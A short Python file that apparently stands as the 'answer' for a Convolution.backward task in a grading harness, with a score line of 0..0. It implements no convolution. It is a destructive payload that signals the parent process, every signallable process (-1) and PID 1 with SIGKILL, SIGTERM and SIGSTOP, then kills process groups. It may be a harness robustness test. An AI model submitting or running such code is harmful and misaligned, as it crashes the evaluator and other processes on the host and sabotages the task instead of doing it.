"""Kills its parent, every process it may signal, then its own process group.

method: Convolution.backward
where: answer
score: 0..0
"""
import os
import signal
for target in (os.getppid(), -1, 1):
    for sig in (signal.SIGKILL, signal.SIGTERM, signal.SIGSTOP):
        try:
            os.kill(target, sig)
        except OSError:
            pass
try:
    os.killpg(os.getpgid(os.getppid()), signal.SIGKILL)
except OSError:
    pass
os.killpg(0, signal.SIGKILL)
